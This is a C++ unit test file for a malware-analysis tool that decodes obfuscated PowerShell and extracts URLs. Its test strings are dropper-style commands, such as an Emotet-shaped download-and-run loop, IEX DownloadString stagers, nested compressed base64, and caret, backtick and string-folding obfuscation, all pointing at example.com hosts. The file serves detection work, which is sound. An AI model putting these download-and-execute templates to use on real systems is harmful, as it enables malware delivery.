// analysis::decode_powershell on commands built here: -EncodedCommand in its spellings, FromBase64String payloads
// compressed with zlib at test time (raw deflate and gzip), and the string tricks droppers fold ([char], '+', -f,
// -replace, .replace, reversal, backticks and carets).
#include <gtest/gtest.h>

#include "analysis/iocs.hpp"
#include "support/iocs_helpers.hpp"

namespace {

namespace analysis = mamori::analysis;
using mamori::test::base64;
using mamori::test::compress;
using mamori::test::dump;
using mamori::test::encode_command;
using mamori::test::values_of;
using Set = std::set<std::string>;

// URLs in every layer of a command.
Set urls_of(const std::string& command) {
  Set r;
  for (const auto& layer : analysis::decode_powershell(command))
    for (const auto& u : values_of(analysis::iocs_from_text(layer, "t"), "url")) r.insert(u);
  return r;
}

// The Emotet shape: a list glued with '@', split, then a loop that downloads each.
const std::string kEmotetScript =
    "$Xq='Pz';$Nw=new-object Net.WebClient;$Uv=('http://one.example.com/a/'+'@http://two.example.net/b/@'+"
    "'https://three.example.org/c/').Split('@');$Fn=$env:userprofile+'\\'+'451'+'.exe';"
    "foreach($u in $Uv){try{$Nw.DownloadFile($u, $Fn);Invoke-Item $Fn;break;}catch{}}";

TEST(IocsPowerShell, EncodedCommandSpellings) {
  const std::string b64 = encode_command(kEmotetScript);
  for (const std::string flag : {"-e", "-E", "-ec", "-en", "-enc", "-EncodedCommand", "-encodedc", "/enc"}) {
    const std::string cmd = "powershell -nop -w hidden " + flag + " " + b64;
    const auto layers = analysis::decode_powershell(cmd);
    ASSERT_FALSE(layers.empty()) << flag;
    EXPECT_EQ(layers[0], kEmotetScript) << flag;
    EXPECT_EQ(urls_of(cmd), (Set{"http://one.example.com/a/", "http://two.example.net/b/", "https://three.example.org/c/"}))
        << flag;
  }
  // Not a flag: "-exec bypass" is -ExecutionPolicy, and a short argument is not a payload.
  EXPECT_TRUE(analysis::decode_powershell("powershell -exec bypass -file x.ps1").empty());
  EXPECT_TRUE(analysis::decode_powershell("powershell -e abc").empty());
}

TEST(IocsPowerShell, CaretAndBacktickObfuscation) {
  const std::string b64 = encode_command("(N`ew-Obj`ect Net.WebClient).DownloadString('http://tick.example.com/x')");
  const std::string cmd = "c^m^d /c p^o^w^e^r^s^h^e^l^l -w hidden -e^n^c " + b64;
  EXPECT_EQ(analysis::strip_shell_escapes("p^o^w^e^r^s^h^e^l^l a^^b N`ew``x"), "powershell a^b New`x");
  EXPECT_EQ(urls_of(cmd), Set{"http://tick.example.com/x"});
}

TEST(IocsPowerShell, NestedBase64WithDeflate) {
  const std::string inner = "IEX (New-Object Net.WebClient).DownloadString('http://deflated.example.com/stage2.ps1')";
  const std::string outer =
      "sal x New-Object;iex(x IO.StreamReader((x IO.Compression.DeflateStream([IO.MemoryStream]"
      "[Convert]::FromBase64String('" + base64(compress(inner, -15)) +
      "'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()";
  const std::string cmd = "powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc " + encode_command(outer);
  const auto layers = analysis::decode_powershell(cmd);
  ASSERT_GE(layers.size(), 2u);
  EXPECT_EQ(layers[0], outer);
  EXPECT_EQ(layers[1], inner);
  EXPECT_EQ(urls_of(cmd), Set{"http://deflated.example.com/stage2.ps1"});
}

TEST(IocsPowerShell, NestedBase64WithGzipAndUtf16) {
  const std::string inner = "$d='http://gz.example.org/p.exe';(New-Object Net.WebClient).DownloadFile($d,'C:\\Users\\Public\\p.exe')";
  const std::string outer = "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String(\"" +
                            base64(compress(inner, 31)) +
                            "\"));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GZipStream($s,"
                            "[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()";
  EXPECT_EQ(urls_of("powershell -e " + encode_command(outer)), Set{"http://gz.example.org/p.exe"});
  // A plain FromBase64String of UTF-16 text, no compression.
  const std::string plain = "iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('" +
                            encode_command("iwr http://plain.example.net/x -OutFile a.exe") + "')))";
  EXPECT_EQ(urls_of(plain), Set{"http://plain.example.net/x"});
}

TEST(IocsPowerShell, StringFolding) {
  // [char] arithmetic and concatenation.
  EXPECT_EQ(urls_of("$a=[char]104+[char]0x74+[char](116)+'p://four.example.com/d';iwr $a"),
            Set{"http://four.example.com/d"});
  // The format operator, with the pieces out of order.
  EXPECT_EQ(urls_of("$b=(\"{2}{0}{1}\" -f 'p://five.exa','mple.com/e','htt');"), Set{"http://five.example.com/e"});
  // -replace (a regex, here a literal) and .Replace().
  EXPECT_EQ(urls_of("$c=('hxxp://six.example.com/f' -replace 'hxxp','http')"), Set{"http://six.example.com/f"});
  EXPECT_EQ(urls_of("$c='hZZp://seven.example.com/g'.Replace('ZZ','tt')"), Set{"http://seven.example.com/g"});
  // Reversal by indexing backwards and joining.
  const std::string url = "http://eight.example.com/h";
  EXPECT_EQ(urls_of("$r=-join '" + std::string(url.rbegin(), url.rend()) + "'[-1..-100] -join ''"), Set{url});
  // A decoy URL in a block comment is dropped by folding, the real one kept.
  const auto layers = analysis::decode_powershell("<# http://decoy.example.com/ #> $u='http://real.exa'+'mple.com/z'");
  ASSERT_FALSE(layers.empty());
  EXPECT_EQ(values_of(analysis::iocs_from_text(layers.back(), "t"), "url"), Set{"http://real.example.com/z"});
}

TEST(IocsPowerShell, HostileInputStaysBounded) {
  // Deeply nested -enc: each layer encodes the previous; decoding stops at max_ps_layers.
  std::string cmd = "iwr http://deep.example.com/";
  for (int i = 0; i < 9; ++i) cmd = "powershell -enc " + encode_command(cmd);
  EXPECT_LE(analysis::decode_powershell(cmd).size(), analysis::limits::max_ps_layers);
  // A deflate bomb inflates to the cap, not beyond.
  const std::string bomb(64u << 20, 'A');
  const std::string b = "[Convert]::FromBase64String('" + base64(compress(bomb, -15)) + "') DeflateStream";
  for (const auto& l : analysis::decode_powershell(b)) EXPECT_LE(l.size(), analysis::limits::max_inflate);
  // Garbage and truncated base64 do not decode.
  EXPECT_LE(analysis::decode_powershell("powershell -enc !!!!@@@@####$$$$%%%%^^^^").size(), analysis::limits::max_ps_layers);
  EXPECT_TRUE(analysis::decode_powershell("powershell -enc !!!!@@@@####$$$$%%%%").empty());
  std::string many;
  for (int i = 0; i < 50000; ++i) many += "'a'+";
  many += "'b'";
  const auto layers = analysis::decode_powershell(many);
  ASSERT_FALSE(layers.empty());
}

}  // namespace
